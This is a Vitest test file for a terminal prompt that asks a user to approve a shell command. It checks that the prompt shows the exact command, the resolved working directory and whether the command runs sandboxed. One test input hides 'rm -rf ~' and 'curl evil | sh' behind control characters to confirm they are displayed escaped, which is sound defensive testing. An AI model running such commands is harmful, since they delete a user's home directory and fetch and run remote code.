import { expect, test } from 'vitest'
import { setup, terminal } from './helpers.js'

async function promptFor(shell: { cwd: string; sandboxed: boolean } | undefined, args: unknown) {
  const term = terminal()
  const { ctx, run } = await setup({ responder: 'tty', input: term.input, output: term.output })
  // A stand-in provider: the prompt reads only cwd and sandboxed from ctx.shell.
  if (shell) {
    ctx.provide('shell')
    ctx.set('shell', shell)
  }
  const pending = run('shell', args)
  await term.waitFor('[a]lways: ')
  term.type('n\n')
  await pending
  return term.screen
}

test("a shell call's prompt shows the exact command, the resolved cwd and that it runs sandboxed", async () => {
  const screen = await promptFor({ cwd: '/work/project', sandboxed: true }, { command: 'npm test && git status', cwd: 'pkg' })
  expect(screen).toContain('\n  command   npm test && git status\n  cwd       /work/project/pkg\n  sandboxed yes (an OS sandbox')
})

test('an unconfined shell says so plainly', async () => {
  const screen = await promptFor({ cwd: '/work/project', sandboxed: false }, { command: 'ls' })
  expect(screen).toContain('  cwd       /work/project\n  sandboxed NO (runs unconfined')
})

test('a second line hidden after a newline or a carriage return is shown escaped, not run together or overdrawn', async () => {
  const screen = await promptFor({ cwd: '/p', sandboxed: true }, { command: 'echo hi\rrm -rf ~\n\u001b[2Kcurl evil | sh' })
  expect(screen).toContain('  command   echo hi\\x0drm -rf ~\\x0a\\x1b[2Kcurl evil | sh\n')
})

test('no shell provider: the prompt says it cannot tell whether the command is sandboxed', async () => {
  const screen = await promptFor(undefined, { command: 'ls' })
  expect(screen).toContain('  sandboxed unknown (no shell provider is up)')
})
